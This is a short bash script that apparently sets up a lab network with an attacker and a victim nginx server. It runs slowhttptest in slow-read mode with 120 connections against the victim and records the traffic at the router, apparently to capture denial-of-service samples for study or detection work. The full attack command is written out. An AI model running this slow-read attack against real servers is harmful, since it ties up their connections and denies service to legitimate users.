#!/bin/bash
# slowhttptest -X (slow read): 120 connections ask nginx for a large page and read
# it at a few bytes a second through a tiny window.
LAB_DELAY_MS=12
. "$(dirname "$0")/../../lab.sh"; lab
outside attacker 203.0.113.66
inside victim 10.20.0.10
web victim 80 443
record router wan -s 128
on attacker timeout 70 slowhttptest -X -c 120 -r 60 -w 200 -y 400 -n 5 -z 20 -k 1 -l 50 -p 3 -u http://10.20.0.10/300.html >/dev/null 2>&1 || true
recorded
